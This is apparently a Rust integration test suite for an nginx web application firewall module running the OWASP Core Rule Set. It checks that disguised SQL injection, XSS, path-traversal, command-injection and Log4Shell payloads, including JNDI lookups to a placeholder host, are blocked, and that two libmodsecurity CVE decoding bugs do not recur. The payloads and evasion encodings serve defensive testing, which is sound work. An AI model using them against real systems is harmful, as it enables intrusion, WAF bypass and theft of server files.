//! The classic WAF bypasses against CRS v4 at paranoia level 1, blocking, through the real nginx
//! (issue 8, item 4): the same SQL injection, XSS and file-access payloads in every disguise
//! (double URL encoding, %u encoding, mixed case, comments inside SQL, parameter pollution,
//! JSON/multipart/XML wrapping, path tricks) must be answered 403, while the same requests with
//! harmless values pass. Then the decoding bugs behind two libmodsecurity CVEs, which must not
//! be reproduced here:
//!
//! - CVE-2024-1019 (libmodsecurity 3.0.0-3.0.11): the request target was percent-decoded before
//!   the path was split from the query, so a `%3F` in the path cut REQUEST_FILENAME short and
//!   turned the rest of the path into arguments; path-based rules (CRS 930130, restricted files)
//!   never saw it while the web server still served the path.
//! - CVE-2025-27110 (libmodsecurity 3.0.13): `t:htmlEntityDecode` decoded a numeric entity with
//!   many leading zeros (`&#0000...123;`) to a NUL byte followed by the digits instead of `{`,
//!   so `${jndi:...}` written that way slipped past CRS 944150 (Log4Shell).

mod common;

use common::crs::{raw_request, write_crs_v4_pl1, RawResponse};
use common::reflect_backend::ReflectBackend;
use common::{free_port, Nginx};

struct Waf {
    nginx: Nginx,
    _backend: ReflectBackend,
    port: u16,
}

/// nginx with CRS v4 PL1 in front of a backend that answers 200; with `custom_rules`, those
/// `secrule` lines instead of CRS (to look at one variable's exact value).
fn start(name: &str, custom_rules: Option<&str>) -> Waf {
    let backend = ReflectBackend::start();
    let port = free_port();
    let prefix = common::nginx::temp_prefix(name);
    let rules = match custom_rules {
        Some(lines) => lines.to_string(),
        None => format!("secrules_file {};", write_crs_v4_pl1(&prefix, "").display()),
    };
    common::nginx::write_conf(
        &prefix,
        &format!(
            "server {{\n listen 127.0.0.1:{port};\n secrules on;\n {rules}\n \
             location / {{ proxy_pass http://127.0.0.1:{backend}; }}\n}}\n",
            backend = backend.port,
        ),
    );
    let nginx = Nginx::start(&prefix, &[port]);
    Waf {
        nginx,
        _backend: backend,
        port,
    }
}

const HEAD: &str = "Host: localhost\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\nAccept: text/html\r\nAccept-Language: en\r\nConnection: close\r\n";

fn get(target: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\n{HEAD}\r\n").into_bytes()
}

fn get_with(target: &str, header: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\n{HEAD}{header}\r\n\r\n").into_bytes()
}

fn post(content_type: &str, body: &str) -> Vec<u8> {
    format!(
        "POST /search HTTP/1.1\r\n{HEAD}Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn multipart(value: &str) -> Vec<u8> {
    let body = format!(
        "--b0undary\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--b0undary--\r\n"
    );
    post("multipart/form-data; boundary=b0undary", &body)
}

impl Waf {
    /// Sends each (name, request, status) and returns the failures, each with what happened.
    fn run(&self, cases: &[(String, Vec<u8>, u16)]) -> Vec<String> {
        let mut failures = Vec::new();
        for (name, request, expected) in cases {
            let RawResponse { status, text } = raw_request(self.port, request);
            if status != *expected {
                failures.push(format!(
                    "{name}: {status}, expected {expected}\n  request: {}\n  answer: {}",
                    String::from_utf8_lossy(request)
                        .lines()
                        .next()
                        .unwrap_or(""),
                    text.lines().next().unwrap_or("")
                ));
            }
        }
        failures
    }
}

/// Each disguise of a payload as (name, request): `{}` in the templates is replaced by the
/// payload, encoded as the name says.
fn disguises(kind: &str, payload: &str) -> Vec<(String, Vec<u8>)> {
    let enc = percent(payload, false);
    let double = percent(&enc, true);
    let unicode: String = payload
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%u00{b:02x}")
            }
        })
        .collect();
    let mixed: String = payload
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    let json_escaped: String = payload
        .chars()
        .map(|c| match c {
            '\'' | '<' | '>' | '/' | ' ' => format!("\\u{:04x}", c as u32),
            '"' => "\\\"".into(),
            c => c.to_string(),
        })
        .collect();
    let json_plain = payload.replace('"', "\\\"");
    vec![
        (format!("{kind}: query"), get(&format!("/search?q={enc}"))),
        (
            format!("{kind}: double URL encoding"),
            get(&format!("/search?q={double}")),
        ),
        (
            format!("{kind}: %u encoding"),
            get(&format!("/search?q={unicode}")),
        ),
        (
            format!("{kind}: mixed case"),
            get(&format!("/search?q={}", percent(&mixed, false))),
        ),
        (
            format!("{kind}: in an argument name"),
            get(&format!("/search?{enc}=1")),
        ),
        (
            format!("{kind}: parameter pollution, payload in the second copy"),
            get(&format!("/search?q=hello&q={enc}&q=world")),
        ),
        (
            format!("{kind}: in a cookie"),
            get_with("/search", &format!("Cookie: session=abc; q={enc}")),
        ),
        (
            format!("{kind}: urlencoded body"),
            post("application/x-www-form-urlencoded", &format!("a=1&q={enc}")),
        ),
        (
            format!("{kind}: JSON body"),
            post("application/json", &format!("{{\"q\":\"{json_plain}\"}}")),
        ),
        (
            format!("{kind}: JSON body, nested, \\u-escaped"),
            post(
                "application/json",
                &format!("{{\"a\":{{\"b\":[1,\"{json_escaped}\"]}}}}"),
            ),
        ),
        (format!("{kind}: multipart field"), multipart(payload)),
        (
            format!("{kind}: XML body"),
            post(
                "text/xml",
                &format!("<?xml version=\"1.0\"?><q>{}</q>", xml_escape(payload)),
            ),
        ),
    ]
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// Percent-encodes everything but letters and digits; with `twice`, `s` is already encoded and
/// only its `%` become `%25` (double encoding).
fn percent(s: &str, twice: bool) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || (twice && b != b'%') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[test]
fn classic_bypasses_are_caught_at_paranoia_level_1() {
    let waf = start("evasion", None);
    let mut cases: Vec<(String, Vec<u8>, u16)> = Vec::new();
    for (kind, payload) in [
        ("SQLi", "1' union select password from users--"),
        ("SQLi", "1' or '1'='1"),
        ("XSS", "<script>alert(document.cookie)</script>"),
        ("XSS", "<img src=x onerror=alert(1)>"),
        ("LFI", "../../../../etc/passwd"),
        ("RCE", ";cat /etc/passwd"),
    ] {
        cases.extend(
            disguises(kind, payload)
                .into_iter()
                .map(|(name, request)| (format!("{name} ({payload})"), request, 403)),
        );
    }
    // The same disguises with a harmless value: the blocks above are not for the disguise.
    cases.extend(
        disguises("control", "hello world, nice day")
            .into_iter()
            .map(|(name, request)| (name, request, 200)),
    );
    // SQL-specific tricks.
    for (name, target) in [
        (
            "comments between SQL keywords",
            "/search?q=1%27/**/union/**/select/**/password/**/from/**/users--",
        ),
        (
            "MySQL versioned comments",
            "/search?q=1%27%20/*!50000union*/%20/*!50000select*/%20password%20from%20users--",
        ),
        (
            "comment inside a keyword",
            "/search?q=1%27%20un/**/ion%20se/**/lect%20password%20from%20users--",
        ),
        (
            "newlines and tabs for spaces",
            "/search?q=1%27%0aunion%09select%0dpassword%0bfrom%0cusers--",
        ),
        (
            "split over two parameters (HPP)",
            "/search?q=1%27%20union/*&q=*/select%20password%20from%20users--",
        ),
        (
            "hex literals",
            "/search?q=1%20union%20select%200x70617373776f7264%20from%20users",
        ),
        ("stacked query", "/search?q=1;drop%20table%20users--"),
        ("sleep", "/search?q=1%27%20and%20sleep(5)--"),
        (
            "triple-encoded quote, union select",
            "/search?q=1%252527%252520union%252520select%252520password%252520from%252520users--",
        ),
    ] {
        cases.push((format!("SQLi: {name}"), get(target), 403));
    }
    // Path tricks on a restricted file (CRS 930130 on REQUEST_FILENAME) and traversal.
    for (name, target, expected) in [
        ("plain", "/.git/config", 403),
        ("/./", "/./.git/./config", 403),
        ("//", "//.git//config", 403),
        (
            "%2e%2e back into the path",
            "/a/b/%2e%2e/%2e%2e/.git/config",
            403,
        ),
        ("encoded slash", "/.git%2fconfig", 403),
        ("encoded letters", "/%2e%67%69%74/config", 403),
        ("mixed case", "/.GiT/config", 403),
        ("trailing dot segment", "/.git/config/.", 403),
        ("traversal above the root", "/../../../etc/passwd", 400),
        (
            "encoded traversal in the path",
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            400,
        ),
        (
            "traversal in an argument",
            "/download?file=..%2f..%2f..%2fetc%2fpasswd",
            403,
        ),
        (
            "backslash traversal in an argument",
            "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
            403,
        ),
        (
            "double-encoded traversal in an argument",
            "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            403,
        ),
        (
            "overlong UTF-8 traversal",
            "/download?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
            403,
        ),
        ("harmless path (control)", "/a/./b//c/index.html", 200),
    ] {
        cases.push((format!("path: {name}"), get(target), expected));
    }
    let failures = waf.run(&cases);
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}\n",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    // 6 payloads and a control in 12 disguises, 9 SQL tricks, 15 path cases.
    assert_eq!(cases.len(), 7 * 12 + 9 + 15);
    assert!(waf.nginx.error_log().contains("[id \"949110\"]"));
}

/// CVE-2024-1019. nginx splits the request target at the first raw `?` and decodes only the
/// path, so `%3F` is a character of the path: REQUEST_FILENAME keeps everything after it, and
/// no argument is made from it. A secrules that decoded first would see `/index.html` as the
/// file and `/../.git/config` as an argument name.
#[test]
fn cve_2024_1019_an_encoded_question_mark_does_not_end_the_path() {
    // The advisory's kind of request: the web server serves /.git/config (nginx decodes the
    // path, then resolves the `..` after the decoded `?`), so path-based rules (CRS 930130 on
    // REQUEST_FILENAME) must see that path.
    let crs = start("cve-2024-1019", None);
    let cases: Vec<(String, Vec<u8>, u16)> = vec![
        (
            "%3F then a restricted file".into(),
            get("/index.html%3F/../.git/config"),
            403,
        ),
        (
            "%3f (lowercase) then a restricted file".into(),
            get("/x%3f/../.git/config"),
            403,
        ),
        (
            "%3F then XSS in the path".into(),
            get("/p%3F%3Cscript%3Ealert(1)%3C/script%3E"),
            403,
        ),
        (
            "%3F and a real query".into(),
            get("/index.html%3F/../.git/config?a=1"),
            403,
        ),
        (
            "control: the same file without tricks".into(),
            get("/index.html"),
            200,
        ),
    ];
    let failures = crs.run(&cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The exact values: no argument is made from the path (401 otherwise) and REQUEST_FILENAME
    // and REQUEST_BASENAME keep what follows the `%3F`.
    let exact = start(
        "cve-2024-1019-exact",
        Some(
            r#"
     secrule 'SecRuleEngine On';
     secrule 'SecRule &ARGS "!@eq 0" "id:1,phase:1,deny,status:401,msg:\'the path became arguments\'"';
     secrule 'SecRule REQUEST_FILENAME "!@streq /dir/page?x/<b>" "id:2,phase:1,deny,status:406,msg:\'path cut short\'"';
     secrule 'SecRule REQUEST_BASENAME "!@streq <b>" "id:3,phase:1,deny,status:407"';
     secrule 'SecRule QUERY_STRING "!@streq " "id:4,phase:1,deny,status:408"';
"#,
        ),
    );
    let cases: Vec<(String, Vec<u8>, u16)> = vec![(
        "exact: /dir/page%3Fx/%3Cb%3E".into(),
        get("/dir/page%3Fx/%3Cb%3E"),
        200,
    )];
    let failures = exact.run(&cases);
    assert!(
        failures.is_empty(),
        "{}\n{}",
        failures.join("\n"),
        exact.nginx.error_log()
    );
}

/// CVE-2025-27110. `&#` followed by 47 zeros and `123;` is `{`: a decoder that gives up on long
/// digit runs (libmodsecurity 3.0.13 kept the first digits only: a NUL byte) lets
/// `${jndi:ldap://...}` through CRS 944150.
#[test]
fn cve_2025_27110_leading_zeros_in_html_entities_still_decode() {
    let crs = start("cve-2025-27110", None);
    let zeros = "0".repeat(47);
    let request = |user_agent: &str| {
        format!("GET / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nConnection: close\r\nUser-Agent: {user_agent}\r\n\r\n").into_bytes()
    };
    let cases: Vec<(String, Vec<u8>, u16)> = vec![
        (
            "control: ${jndi:...} in User-Agent".into(),
            request("${jndi:ldap://evil.example/w}"),
            403,
        ),
        (
            "CRS test 944150-23's request: leading zeros in a User-Agent entity".into(),
            request(&format!("&#x24;&#{zeros}123;jndi:ldap://evil.example/w}}")),
            403,
        ),
        (
            "leading zeros in an argument".into(),
            get(&format!(
                "/search?x=%26%23x24;%26%23{zeros}123;jndi:ldap://evil.example/w}}"
            )),
            403,
        ),
    ];
    let failures = crs.run(&cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The exact value: `{` (the bug gave a NUL byte and the digits: 406).
    let exact = start(
        "cve-2025-27110-exact",
        Some(
            r#"
     secrule 'SecRuleEngine On';
     secrule 'SecRule ARGS:v "@rx \x00" "id:1,phase:1,t:none,t:htmlEntityDecode,deny,status:406"';
     secrule 'SecRule ARGS:v "!@streq ${}" "id:2,phase:1,t:none,t:htmlEntityDecode,deny,status:403"';
"#,
        ),
    );
    let cases: Vec<(String, Vec<u8>, u16)> = vec![
        (
            "exact: 47 zeros".into(),
            get(&format!("/?v=%26%23x24;%26%23{zeros}123;%26%23{zeros}125;")),
            200,
        ),
        (
            "exact: 200 zeros, hex and decimal".into(),
            get(&format!(
                "/?v=%26%23x{z}24;%26%23{z}123;%26%23X{z}7d",
                z = "0".repeat(200)
            )),
            200,
        ),
    ];
    let failures = exact.run(&cases);
    assert!(
        failures.is_empty(),
        "{}\n{}",
        failures.join("\n"),
        exact.nginx.error_log()
    );
}
